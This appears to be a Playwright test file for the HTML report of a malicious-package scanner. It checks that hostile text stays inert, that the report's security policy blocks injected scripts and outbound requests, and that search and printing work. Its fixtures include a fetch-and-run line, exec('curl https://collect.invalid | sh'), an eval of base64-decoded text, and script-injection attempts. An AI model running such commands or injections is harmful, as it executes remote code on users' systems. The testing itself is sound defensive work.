/** The page of the HTML report, in a real browser. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { shown } from '../src/report/escape.js';
import type { View } from '../src/report/formats.js';
import type { Report } from '../src/types.js';
import { browserPath, launch } from './browser.js';
import { malicious, note, report, suspicious } from './report-fabricated.js';
import {
  configuration,
  HOSTILE,
  hostileReports,
  hostileRules,
  hostileTexts,
  html,
  nested,
  obfuscated,
} from './report-html-fabricated.js';

const executable = await browserPath();

describe.skipIf(executable === undefined)('in a browser', () => {
  const folder = mkdtempSync(join(tmpdir(), 'stowaway-html-'));
  let browser: Browser;
  let page: Page;
  /** All that a page should never give cause for: requests, dialogs, errors, breaches of its policy. */
  let trouble: string[] = [];

  beforeAll(async () => {
    browser = await launch(executable as string);
  });
  afterAll(async () => {
    await browser.close();
    rmSync(folder, { recursive: true, force: true });
  });
  afterEach(async () => {
    await page.close();
    expect(trouble).toEqual([]);
  });

  async function show(
    reports: readonly Report[],
    fields: Partial<View> = {},
    { hash = '', width = 1300 }: { readonly hash?: string; readonly width?: number } = {},
  ): Promise<void> {
    const file = join(folder, 'report.html');
    writeFileSync(file, await html(reports, fields));
    const address = pathToFileURL(file).href;
    trouble = [];
    page = await browser.newPage({ viewport: { width, height: 900 } });
    page.setDefaultTimeout(15_000);
    page.on('request', request => {
      if (!request.url().startsWith(address)) trouble.push(`asks for ${request.url()}`);
    });
    page.on('dialog', dialog => trouble.push(`says ${dialog.message()}`));
    page.on('console', message => trouble.push(`logs ${message.text()}`));
    page.on('pageerror', error => trouble.push(`fails with ${error.message}`));
    await page.goto(address + hash);
    await page.waitForSelector('main');
  }

  const names = () => page.locator('.row .name').allTextContents();
  const heading = () => page.locator('.panel h2').textContent();
  const focused = () => page.evaluate(() => document.activeElement?.id || document.activeElement?.tagName);

  const tree = [
    malicious('evil', { capabilities: ['network'], dependencyPath: ['framework'] }),
    suspicious('odd', { capabilities: ['process'] }),
    note('loud'),
    ...Array.from({ length: 40 }, (_, at) => report(`plain-${String(at).padStart(2, '0')}`)),
  ];

  test('nothing hostile runs, loads, or becomes part of the page, whatever is opened', async () => {
    await show(hostileReports, { rules: hostileRules, texts: hostileTexts, configuration, target: HOSTILE.join(' ') });
    for (const [at, text] of HOSTILE.entries()) {
      await page.evaluate(hash => window.location.replace(hash), `#p=${at + 1}`);
      await expect.poll(heading).toBe(`${shown(text)} ${shown(text)}`);
      await page.evaluate(() => {
        for (const kind of ['summary', '.crumb', '.open', '.viewer header .crumb', '.layers button'])
          for (const each of document.querySelectorAll<HTMLElement>(`.panel ${kind}`)) each.click();
      });
      await expect.poll(() => page.locator('.viewer .code').first().textContent()).toContain(shown(text));
      await page.evaluate(() => {
        for (const each of document.querySelectorAll<HTMLElement>('.choice')) each.click();
      });
      await page.locator('input').fill(text);
    }
    for (const text of HOSTILE.map(each => encodeURIComponent(each.toWellFormed())))
      await page.evaluate(hash => window.location.replace(hash), `#q=${text}&g=${text}&p=${text}&b=${text}`);
    for (const each of await page.locator('.appendix summary').all()) await each.click();
    await page.emulateMedia({ media: 'print' });
    await page.waitForSelector('.paper', { state: 'visible' });
    const found = await page.evaluate(() => ({
      broken: (window as { broken?: unknown }).broken,
      elements: document.querySelectorAll('img, iframe, a, object, embed, link, base, form, foreignObject').length,
      scripts: document.querySelectorAll('script').length,
      attributes: [...document.querySelectorAll('*')].flatMap(element =>
        element.getAttributeNames().filter(name => /^(?:on|src|href|srcdoc|action)/i.test(name)),
      ),
      text: ['.page', '.paper'].map(each => document.querySelector(each)?.textContent).join(' '),
    }));
    expect(found).toMatchObject({ broken: undefined, elements: 0, scripts: 2, attributes: [] });
    for (const text of HOSTILE) expect(found.text).toContain(shown(text));
    expect(found.text).not.toMatch(/[\0\u200b\u202e\u2028\u001b\ud800]/);
  });

  test('its policy would stop what got in all the same', async () => {
    await show(tree);
    const stopped = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', event => violations.push(event.effectiveDirective));
      const run = document.createElement('script');
      const image = document.createElement('img');
      const acts = [
        () => document.body.insertAdjacentHTML('beforeend', '<b>markup</b>'),
        () => document.body.setAttribute('onclick', 'window.broken = 1'),
        () => {
          run.textContent = 'window.broken = 1';
        },
        () => {
          image.src = 'https://collect.invalid/';
        },
      ];
      const outcomes = acts.map(act => {
        try {
          act();
          return 'done';
        } catch {
          return 'refused';
        }
      });
      run.append('window.broken = 1');
      document.body.append(run, image);
      document.body.click();
      await fetch('https://collect.invalid/').catch(() => {});
      while (!violations.includes('img-src')) await new Promise(resolve => setTimeout(resolve, 10));
      return { outcomes, violations, broken: (window as { broken?: unknown }).broken };
    });
    expect(stopped.outcomes).toEqual(['refused', 'refused', 'refused', 'done']);
    expect(stopped.violations).toEqual(expect.arrayContaining(['img-src', 'connect-src', 'require-trusted-types-for']));
    expect(stopped.broken).toBeUndefined();
    trouble = []; // what the browser tells of all this
  });

  test('the list can be searched, filtered and sorted, and a view be handed on by its address', async () => {
    await show(tree);
    expect((await names()).slice(0, 3)).toEqual(['evil', 'odd', 'loud']);
    await page.locator('input').fill('framework base64');
    expect(await names()).toEqual(['evil']);
    expect(await page.locator('.found').textContent()).toBe('1 of 43 packages');
    await page.locator('input').fill('nothing has this');
    expect(await page.locator('.empty').isVisible()).toBe(true);
    await page.getByRole('button', { name: 'Show all' }).click();
    await page.getByRole('button', { name: 'suspicious' }).click();
    await page.getByRole('button', { name: 'note' }).click();
    expect(await names()).toEqual(['odd', 'loud']);
    await page.getByLabel('Capability').selectOption('process');
    expect(await names()).toEqual(['odd']);
    await page.locator('.row').click();
    expect(await heading()).toBe('odd 1.0.0');
    await page.waitForURL(/&p=2$/);
    await page.reload();
    expect(await names()).toEqual(['odd']);
    expect(await heading()).toBe('odd 1.0.0');
    await page.getByRole('button', { name: 'Clear' }).click();
    await page.getByLabel('Order').selectOption('name');
    expect((await names()).slice(0, 2)).toEqual(['evil', 'loud']);
  });

  test('everything can be reached with the keyboard', async () => {
    await show(tree);
    await page.keyboard.press('/');
    expect(await focused()).toBe('INPUT');
    await page.keyboard.type('plain');
    await page.keyboard.press('Escape');
    expect(await page.locator('input').inputValue()).toBe('');
    await page.locator('#list').focus();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    expect(await heading()).toBe('odd 1.0.0');
    expect(await focused()).toBe('H2');
    await page.keyboard.press('Escape');
    expect(await page.locator('.panel').isVisible()).toBe(false);
    expect(await focused()).toBe('list');
    await page.keyboard.press('End');
    expect(await page.locator('.row.current .name').textContent()).toBe('plain-39');
    await page.locator('#map').focus();
    await page.keyboard.press('ArrowRight');
    expect(await page.locator('.map .unseen').textContent()).toContain('evil 1.0.0. malicious, score 97');
    await page.keyboard.press('Enter');
    expect(await heading()).toBe('evil 1.0.0');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.closest('.toolbar') !== null)).toBe(true);
  });

  test('the map looks into a group and back out', async () => {
    const inside = Array.from({ length: 3 }, (_, at) => report(`part-${at}`, { dependencyPath: ['framework'] }));
    await show([...inside, report('other')]);
    const trail = page.locator('.trail');
    // The map is drawn when the page has been laid out; before, there is nothing to click on.
    await vi.waitFor(async () => {
      const box = await page.locator('#map').boundingBox();
      if (!(await trail.textContent())?.includes('framework'))
        await page.mouse.click((box?.x ?? 0) + 20, (box?.y ?? 0) + 100);
      expect(await trail.textContent()).toContain('framework 3 packages');
    }, 5_000);
    await page.locator('#map').focus();
    await page.keyboard.press('Backspace');
    expect(await page.locator('.trail').textContent()).toContain('All packages 4 packages');
  });

  test('a step in a layer inside a layer can be followed in and out', async () => {
    const { reports, texts } = await nested();
    await show(reports, { texts }, { hash: '#p=1' });
    const deep = page.locator('.step', { has: page.locator('.way > .crumb:nth-of-type(3)') }).first();
    await deep.getByRole('button', { name: 'Open the decoded text' }).click();
    expect(await deep.locator('.viewer .meant').first().textContent()).toContain('curl');
    await deep.locator('.viewer header .crumb').nth(1).click();
    expect(await deep.locator('.viewer').textContent()).toContain('const run = 1');
    await deep.locator('.viewer header .crumb').first().click();
    expect(await deep.locator('.viewer').textContent()).toContain('nothing to see');
    await deep.locator('.layers button').first().click();
    expect(await deep.locator('.viewer').textContent()).toContain('const run = 1');
    await deep.getByRole('button', { name: 'Close the text' }).click();
    expect(await deep.locator('.viewer').isVisible()).toBe(false);
  });

  test('a text can be read as it was written, and rewritten', async () => {
    const { reports, texts } = await obfuscated();
    await show(reports, { texts }, { hash: '#p=1' });
    const step = page.locator('.step').first();
    await step.locator('.open').first().click();
    expect(await step.locator('.viewer .code').textContent()).toContain('_0x');
    await step.getByRole('button', { name: 'Readable' }).click();
    expect(await focused()).toBe('BUTTON');
    expect(await step.locator('.viewer .code').textContent()).toContain(`exec('curl https://collect.invalid | sh')`);
    expect(await step.locator('.viewer .meant').first().textContent()).toContain('curl');
    expect(await step.locator('.viewer .faint').textContent()).toContain('rewritten to be read');
    await step.getByRole('button', { name: 'Source' }).click();
    expect(await step.locator('.viewer .code').textContent()).toContain('_0x');
  });

  test('it is dark or light, as the system says or its reader', async () => {
    await show(tree);
    const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    const light = await ground();
    await page.emulateMedia({ colorScheme: 'dark' });
    const dark = await ground();
    expect(dark).not.toBe(light);
    await page.getByRole('button', { name: 'Dark or light' }).click();
    expect(await ground()).toBe(light);
  });

  test('on paper it has the packages to look at, with their chains and without controls', async () => {
    await show(tree, { configuration: { ...configuration, path: 'stowaway.config.json' } });
    await page.pdf();
    await page.emulateMedia({ media: 'print' });
    const text = await page.locator('.paper').textContent();
    expect(text).toContain('1 package is malicious, 1 suspicious');
    expect(text).toContain('Runs text decoded from base64');
    expect(text).toContain('eval(text);');
    expect(text).toContain('stowaway.config.json');
    expect(text).not.toContain('plain-00');
    expect([await page.locator('.paper').isVisible(), await page.locator('.page').isVisible()]).toEqual([true, false]);
  });

  test.each<[string, Report[], string]>([
    ['no package', [], 'No packages were found'],
    ['one clean package', [report('good')], 'good shows nothing suspicious'],
    ['one malicious package', [malicious('evil')], 'evil is malicious'],
    ['packages without a finding', [report('a'), report('b')], 'Nothing suspicious was found'],
  ])('of %s it says so', async (_, reports, words) => {
    await show(reports);
    expect(await page.locator('h1').textContent()).toBe(words);
    expect(await page.locator('.map').count()).toBe(reports.length > 1 ? 1 : 0);
  });

  test('what a configuration left out stands in it', async () => {
    const [found] = malicious('calm').findings;
    const accepted = [{ finding: found as never, reason: 'we wrote it', expires: '2030-01-31' }];
    await show([report('calm', { accepted }), report('b')], {
      configuration: {
        path: 'stowaway.config.json',
        rules: { 'sends-secrets': 'off' },
        thresholds: { malicious: 95 },
        overrides: [{ name: '@acme/*', failOn: 'never', reason: 'ours', packages: 2 }],
        accepted: 1,
        unused: [{ package: 'gone', rule: 'r', fingerprint: 'f'.repeat(32), reason: 'was fine' }],
        expired: [],
      },
    });
    const text = await page.locator('.appendix').first().textContent();
    for (const words of [
      '1 finding accepted',
      'we wrote it',
      '@acme/*',
      'fails on never',
      'sends-secrets is off',
      'gone',
    ])
      expect(text).toContain(words);
    await page.locator('.appendix button').click();
    expect(await page.locator('.panel .accepted').textContent()).toContain('until 2030-01-31');
  });

  test('thousands of packages are no more than the rows in sight, and nothing is wider than a narrow window', async () => {
    const many = Array.from({ length: 3_700 }, (_, at) =>
      report(`package-${at}-${'long'.repeat(at % 60)}`, { dependencyPath: [`direct-${at % 300}`] }),
    );
    await show([malicious(`evil-${'x'.repeat(200)}`), ...many], {}, { width: 420 });
    expect(await page.locator('.row').count()).toBeLessThan(60);
    await page.evaluate(() => scrollTo(0, 100_000));
    await expect
      .poll(() => page.locator('.row').first().getAttribute('aria-posinset').then(Number))
      .toBeGreaterThan(1_000);
    expect(await page.locator('.row').count()).toBeLessThan(60);
    await page.locator('input').fill('package-3699');
    expect(await names()).toEqual([expect.stringMatching(/^package-3699-/)]);
    await page.locator('.row').click();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(420);
    expect(await page.locator('.panel').evaluate(panel => panel.scrollWidth - panel.clientWidth)).toBeLessThanOrEqual(
      0,
    );
  });
});
